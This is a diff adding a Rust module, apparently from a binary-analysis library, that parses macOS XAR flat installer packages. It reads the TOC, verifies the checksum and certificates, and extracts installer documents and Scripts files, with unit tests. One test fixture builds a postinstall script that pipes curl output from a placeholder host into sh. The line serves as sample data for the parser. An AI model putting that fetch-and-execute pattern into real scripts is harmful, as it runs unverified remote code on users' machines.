@@ -0,0 +1,316 @@
+//! XAR archives (flat .pkg installers): the zlib-compressed XML table of contents,
+//! TOC checksum and signatures, plus extraction of the installer documents and the
+//! files in each Scripts archive. Payloads are listed but never extracted.
+
+use crate::cpio;
+use crate::ffi::{alloc_array, alloc_bytes, free_array, free_cstr, to_cstr};
+use crate::hash::{md5_digest, sha1_digest, sha256_digest};
+use crate::inflate::{gzip_decompress, zlib_decompress};
+use crate::x509::{self, alloc_cert_array, free_cert_array, IrisX509Cert};
+use crate::xml::{self, Element};
+use std::ffi::c_char;
+
+const XAR_MAGIC: &[u8] = b"xar!";
+const XAR_HEADER_MIN: usize = 28;
+const MAX_TOC: usize = 16 << 20;
+const MAX_EXTRACT: usize = 16 << 20;
+
+pub const XAR_CKSUM_SHA1: u32 = 1;
+pub const XAR_CKSUM_MD5: u32 = 2;
+pub const XAR_CKSUM_OTHER: u32 = 3; // named by the TOC's checksum style, e.g. "sha256"
+
+pub const XAR_FILE_REGULAR: u8 = 1;
+pub const XAR_FILE_DIRECTORY: u8 = 2;
+pub const XAR_FILE_SYMLINK: u8 = 3;
+pub const XAR_FILE_OTHER: u8 = 4;
+
+pub const XAR_ENC_NONE: u8 = 0;
+pub const XAR_ENC_GZIP: u8 = 1;  // zlib stream despite the name
+pub const XAR_ENC_BZIP2: u8 = 2;
+pub const XAR_ENC_XZ: u8 = 3;
+pub const XAR_ENC_OTHER: u8 = 4;
+
+#[repr(C)]
+pub struct IrisXarFile {
+    pub path: *mut c_char,     // "Example.pkg/Payload"
+    pub kind: u8,              // XAR_FILE_*
+    pub encoding: u8,          // XAR_ENC_*
+    pub offset: u64,           // absolute offset of the archived data in the file
+    pub archived_length: u64,
+    pub size: u64,             // extracted size
+}
+
+#[repr(C)]
+pub struct IrisXarDocument {
+    pub path: *mut c_char,     // "Distribution", "Example.pkg/Scripts/postinstall", ...
+    pub data: *mut u8,
+    pub len: usize,
+}
+
+#[repr(C)]
+pub struct IrisXarInfo {
+    pub toc_checksum_alg: u32,         // XAR_CKSUM_*
+    pub toc_checksum_valid: bool,      // heap checksum matches the compressed TOC
+    pub signature_style: *mut c_char,  // "RSA" for a signed package, "" if unsigned
+    pub cms_signed: bool,              // x-signature (CMS) present
+    pub certificates: *mut IrisX509Cert, // signature KeyInfo chain, leaf first
+    pub certificate_count: usize,
+    pub files: *mut IrisXarFile,
+    pub file_count: usize,
+    pub documents: *mut IrisXarDocument, // Distribution and PackageInfo XML
+    pub document_count: usize,
+    pub scripts: *mut IrisXarDocument,   // regular files from Scripts archives
+    pub script_count: usize,
+}
+
+struct File {
+    path: String,
+    has_data: bool,
+    kind: u8,
+    encoding: u8,
+    offset: u64,
+    archived_length: u64,
+    size: u64,
+}
+
+fn number(el: &Element, name: &str) -> u64 {
+    el.child_text(name).and_then(|t| t.parse().ok()).unwrap_or(0)
+}
+
+fn walk(el: &Element, parent: &str, out: &mut Vec<File>) {
+    for f in el.children_named("file") {
+        let name = f.child_text("name").unwrap_or("");
+        let path = if parent.is_empty() { name.to_string() } else { format!("{}/{}", parent, name) };
+        let kind = match f.child_text("type") {
+            Some("file") => XAR_FILE_REGULAR,
+            Some("directory") => XAR_FILE_DIRECTORY,
+            Some("symlink") => XAR_FILE_SYMLINK,
+            _ => XAR_FILE_OTHER,
+        };
+        let data = f.child("data");
+        let encoding = match data.and_then(|d| d.child("encoding")).and_then(|e| e.attr("style")) {
+            None | Some("application/octet-stream") => XAR_ENC_NONE,
+            Some("application/x-gzip") => XAR_ENC_GZIP,
+            Some("application/x-bzip2") => XAR_ENC_BZIP2,
+            Some("application/x-xz") | Some("application/x-lzma") => XAR_ENC_XZ,
+            Some(_) => XAR_ENC_OTHER,
+        };
+        out.push(File {
+            has_data: data.is_some(), kind, encoding,
+            offset: data.map_or(0, |d| number(d, "offset")),
+            archived_length: data.map_or(0, |d| number(d, "length")),
+            size: data.map_or(0, |d| number(d, "size")),
+            path: path.clone(),
+        });
+        walk(f, &path, out);
+    }
+}
+
+/// Extracted contents of a file with data in the heap; None if undecodable.
+fn extract(heap: &[u8], f: &File) -> Option<Vec<u8>> {
+    if f.kind != XAR_FILE_REGULAR { return None; }
+    let off = usize::try_from(f.offset).ok()?;
+    let raw = heap.get(off..off.checked_add(usize::try_from(f.archived_length).ok()?)?)?;
+    match f.encoding {
+        XAR_ENC_NONE if raw.len() <= MAX_EXTRACT => Some(raw.to_vec()),
+        XAR_ENC_GZIP => zlib_decompress(raw, MAX_EXTRACT),
+        _ => None,
+    }
+}
+
+fn basename(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+fn document(path: &str, data: &[u8]) -> IrisXarDocument {
+    let (data, len) = alloc_bytes(data);
+    IrisXarDocument { path: to_cstr(path), data, len }
+}
+
+fn free_documents(ptr: *mut IrisXarDocument, count: usize) {
+    for i in 0..count {
+        let d = unsafe { &*ptr.add(i) };
+        free_cstr(d.path);
+        free_array(d.data, d.len);
+    }
+    free_array(ptr, count);
+}
+
+// --- FFI entry points ---
+
+/// Parse a XAR archive / flat package held in memory. Returns 0=ok, -1=truncated,
+/// -2=arg error or undecodable TOC, -3=not a XAR archive. Free with iris_xar_free.
+#[no_mangle]
+pub extern "C" fn iris_xar_parse(data: *const u8, len: usize, out: *mut IrisXarInfo) -> i32 {
+    if data.is_null() || out.is_null() { return -2; }
+    let d = unsafe { std::slice::from_raw_parts(data, len) };
+    if !d.starts_with(XAR_MAGIC) { return -3; }
+    if d.len() < XAR_HEADER_MIN { return -1; }
+    let header_size = u16::from_be_bytes([d[4], d[5]]) as usize;
+    let toc_len = u64::from_be_bytes(d[8..16].try_into().unwrap());
+    let alg = u32::from_be_bytes(d[24..28].try_into().unwrap());
+    let Some(heap_start) = usize::try_from(toc_len).ok().and_then(|t| header_size.checked_add(t)) else { return -2 };
+    let Some(toc_raw) = d.get(header_size..heap_start) else { return -1 };
+    let heap = &d[heap_start..];
+    let Some(root) = zlib_decompress(toc_raw, MAX_TOC).and_then(|x| xml::parse(&x)) else { return -2 };
+    let Some(toc) = root.child("toc") else { return -2 };
+
+    let toc_checksum_valid = toc.child("checksum").and_then(|c| {
+        let off = usize::try_from(number(c, "offset")).ok()?;
+        let stored = heap.get(off..off.checked_add(usize::try_from(number(c, "size")).ok()?)?)?;
+        let computed = match (alg, c.attr("style")) {
+            (XAR_CKSUM_SHA1, _) => sha1_digest(toc_raw).to_vec(),
+            (XAR_CKSUM_MD5, _) => md5_digest(toc_raw).to_vec(),
+            (XAR_CKSUM_OTHER, Some("sha256")) => sha256_digest(toc_raw).to_vec(),
+            _ => return None,
+        };
+        Some(stored == computed)
+    }).unwrap_or(false);
+
+    let signature = toc.child("signature");
+    let der: Vec<Vec<u8>> = signature.and_then(|s| s.child("KeyInfo")).and_then(|k| k.child("X509Data"))
+        .map(|x| x.children_named("X509Certificate").filter_map(|c| crate::base64::decode(c.text.as_bytes())).collect())
+        .unwrap_or_default();
+    let certs: Vec<_> = der.iter().filter_map(|c| x509::parse(c)).collect();
+    let (certificates, certificate_count) = alloc_cert_array(&certs.iter().collect::<Vec<_>>());
+
+    let mut files = Vec::new();
+    walk(toc, "", &mut files);
+    let mut documents = Vec::new();
+    let mut scripts = Vec::new();
+    for f in &files {
+        let name = basename(&f.path);
+        if name != "Distribution" && name != "PackageInfo" && name != "Scripts" { continue; }
+        let Some(content) = extract(heap, f) else { continue };
+        if name != "Scripts" {
+            documents.push(document(&f.path, &content));
+            continue;
+        }
+        let archive = if content.starts_with(&[0x1f, 0x8b]) { gzip_decompress(&content, MAX_EXTRACT) } else { Some(content) };
+        for e in archive.as_deref().map(cpio::entries).unwrap_or_default() {
+            if !e.is_file() { continue; }
+            let rel = e.name.trim_start_matches("./");
+            scripts.push(document(&format!("{}/{}", f.path, rel), e.data));
+        }
+    }
+    let listed: Vec<IrisXarFile> = files.iter().map(|f| IrisXarFile {
+        path: to_cstr(&f.path),
+        kind: f.kind,
+        encoding: f.encoding,
+        offset: if f.has_data { heap_start as u64 + f.offset } else { 0 },
+        archived_length: f.archived_length,
+        size: f.size,
+    }).collect();
+
+    let (files, file_count) = alloc_array(listed);
+    let (documents, document_count) = alloc_array(documents);
+    let (scripts, script_count) = alloc_array(scripts);
+    unsafe {
+        out.write(IrisXarInfo {
+            toc_checksum_alg: alg,
+            toc_checksum_valid,
+            signature_style: to_cstr(signature.and_then(|s| s.attr("style")).unwrap_or("")),
+            cms_signed: toc.child("x-signature").is_some(),
+            certificates, certificate_count,
+            files, file_count,
+            documents, document_count,
+            scripts, script_count,
+        });
+    }
+    0
+}
+
+/// Free everything owned by an IrisXarInfo filled by iris_xar_parse.
+#[no_mangle]
+pub extern "C" fn iris_xar_free(info: *mut IrisXarInfo) {
+    if info.is_null() { return; }
+    let info = unsafe { &*info };
+    free_cstr(info.signature_style);
+    free_cert_array(info.certificates, info.certificate_count);
+    for i in 0..info.file_count { free_cstr(unsafe { (*info.files.add(i)).path }); }
+    free_array(info.files, info.file_count);
+    free_documents(info.documents, info.document_count);
+    free_documents(info.scripts, info.script_count);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::base64::encode;
+    use crate::cpio::tests::odc;
+    use crate::inflate::tests::{gzip_stored, zlib_stored};
+    use crate::x509::tests::{cert, name, CN};
+
+    fn cstr(p: *mut c_char) -> String {
+        unsafe { std::ffi::CStr::from_ptr(p) }.to_string_lossy().into_owned()
+    }
+
+    fn pkg(tamper: bool) -> Vec<u8> {
+        let dist = b"<installer-gui-script minSpecVersion=\"2\"/>";
+        let dist_z = zlib_stored(dist);
+        let scripts = gzip_stored(&odc(&[("./postinstall", b"#!/bin/sh\ncurl -s https://example.invalid | sh\n")]));
+        let leaf = cert(5, &name(&[(CN, "Developer ID Installer: Example (TEAM123456)")]), &name(&[(CN, "Developer ID CA")]));
+        let toc = format!(r#"<?xml version="1.0" encoding="UTF-8"?>
+<xar><toc>
+<checksum style="sha1"><offset>0</offset><size>20</size></checksum>
+<signature style="RSA"><offset>20</offset><size>4</size>
+<KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data><X509Certificate>{}</X509Certificate></X509Data></KeyInfo></signature>
+<file id="1"><name>Distribution</name><type>file</type>
+<data><length>{}</length><offset>24</offset><size>{}</size><encoding style="application/x-gzip"/></data></file>
+<file id="2"><name>Example.pkg</name><type>directory</type>
+<file id="3"><name>Scripts</name><type>file</type>
+<data><length>{}</length><offset>{}</offset><size>{}</size><encoding style="application/octet-stream"/></data></file>
+<file id="4"><name>Payload</name><type>file</type>
+<data><length>1000</length><offset>99999</offset><size>4000</size><encoding style="application/octet-stream"/></data></file>
+</file></toc></xar>"#, encode(&leaf), dist_z.len(), dist.len(), scripts.len(), 24 + dist_z.len(), scripts.len());
+        let toc_z = zlib_stored(toc.as_bytes());
+        let mut d = XAR_MAGIC.to_vec();
+        d.extend_from_slice(&28u16.to_be_bytes());
+        d.extend_from_slice(&1u16.to_be_bytes());
+        d.extend_from_slice(&(toc_z.len() as u64).to_be_bytes());
+        d.extend_from_slice(&(toc.len() as u64).to_be_bytes());
+        d.extend_from_slice(&XAR_CKSUM_SHA1.to_be_bytes());
+        d.extend_from_slice(&toc_z);
+        let mut sum = sha1_digest(&toc_z);
+        if tamper { sum[0] ^= 1; }
+        d.extend_from_slice(&sum);
+        d.extend_from_slice(&[0; 4]);
+        d.extend_from_slice(&dist_z);
+        d.extend_from_slice(&scripts);
+        d
+    }
+
+    #[test]
+    fn flat_package() {
+        let d = pkg(false);
+        let mut out = std::mem::MaybeUninit::<IrisXarInfo>::uninit();
+        assert_eq!(iris_xar_parse(d.as_ptr(), d.len(), out.as_mut_ptr()), 0);
+        let mut info = unsafe { out.assume_init() };
+        assert!(info.toc_checksum_valid);
+        assert_eq!((cstr(info.signature_style), info.cms_signed, info.certificate_count), ("RSA".into(), false, 1));
+        assert_eq!(cstr(unsafe { (*info.certificates).common_name }), "Developer ID Installer: Example (TEAM123456)");
+        let files = unsafe { std::slice::from_raw_parts(info.files, info.file_count) };
+        let paths: Vec<String> = files.iter().map(|f| cstr(f.path)).collect();
+        assert_eq!(paths, ["Distribution", "Example.pkg", "Example.pkg/Scripts", "Example.pkg/Payload"]);
+        assert_eq!((files[1].kind, files[0].encoding, files[3].size), (XAR_FILE_DIRECTORY, XAR_ENC_GZIP, 4000));
+
+        assert_eq!(info.document_count, 1);
+        let doc = unsafe { &*info.documents };
+        assert_eq!(unsafe { std::slice::from_raw_parts(doc.data, doc.len) }, b"<installer-gui-script minSpecVersion=\"2\"/>");
+        assert_eq!(info.script_count, 1);
+        let s = unsafe { &*info.scripts };
+        assert_eq!(cstr(s.path), "Example.pkg/Scripts/postinstall");
+        assert!(unsafe { std::slice::from_raw_parts(s.data, s.len) }.starts_with(b"#!/bin/sh\ncurl"));
+        iris_xar_free(&mut info);
+
+        let d = pkg(true);
+        let mut out = std::mem::MaybeUninit::<IrisXarInfo>::uninit();
+        assert_eq!(iris_xar_parse(d.as_ptr(), d.len(), out.as_mut_ptr()), 0);
+        let mut info = unsafe { out.assume_init() };
+        assert!(!info.toc_checksum_valid);
+        iris_xar_free(&mut info);
+        let mut out = std::mem::MaybeUninit::<IrisXarInfo>::uninit();
+        assert_eq!(iris_xar_parse(d.as_ptr(), 40, out.as_mut_ptr()), -1);
+        assert_eq!(iris_xar_parse(b"PK\x03\x04".as_ptr(), 4, out.as_mut_ptr()), -3);
+    }
+}